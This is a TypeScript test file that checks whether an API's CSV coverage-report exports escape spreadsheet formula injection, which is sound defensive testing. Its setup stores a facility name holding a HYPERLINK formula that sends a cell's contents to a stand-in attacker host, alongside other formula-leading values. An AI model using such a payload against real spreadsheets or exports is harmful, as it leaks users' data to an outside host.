import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseCsv } from '../../../api/csv.ts'
import { REPORT_TABLES } from '../../../core/coverage/tables.ts'
import { testFacility } from '../../support/platform.ts'
import { startTenants, type Tenants } from './tenants.ts'

const FORMULA = /^[=+\-@\t\r]/

describe('CSV exports', () => {
  let tenants: Tenants

  beforeAll(async () => {
    tenants = await startTenants()
    // What an admin typed, or a CSV import brought in: to a spreadsheet, each of these is a formula.
    await tenants.registry.createFacility(
      testFacility('fac-x', {
        name: '=HYPERLINK("http://evil.example/?"&A1,"open")',
        province: '+Hà Nội',
        sector: '@SUM(1+1)',
        hazards: ['noise'],
      }),
    )
  })

  afterAll(async () => {
    await tenants?.close()
  })

  it.each(REPORT_TABLES)('the coverage table %s holds no cell a spreadsheet would run', async (table) => {
    const response = await tenants.as(
      'regulator',
      'GET',
      `/api/v1/reports/coverage?period=2025&format=csv&table=${table}`,
    )
    expect(response.status).toBe(200)
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
    const cells = parseCsv(response.text).flat()
    // Numbers the report computed may be negative; text may not start a formula.
    expect(cells.filter((cell) => FORMULA.test(cell) && Number.isNaN(Number(cell)))).toEqual([])
  })

  it('shows what was typed, behind a quote', async () => {
    const response = await tenants.as(
      'regulator',
      'GET',
      '/api/v1/reports/coverage?period=2025&format=csv&table=shortfalls',
    )
    const row = parseCsv(response.text).find((cells) => cells[0] === 'fac-x')
    expect(row?.slice(0, 4)).toEqual([
      'fac-x',
      `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
      "'+Hà Nội",
      "'@SUM(1+1)",
    ])
  })
})
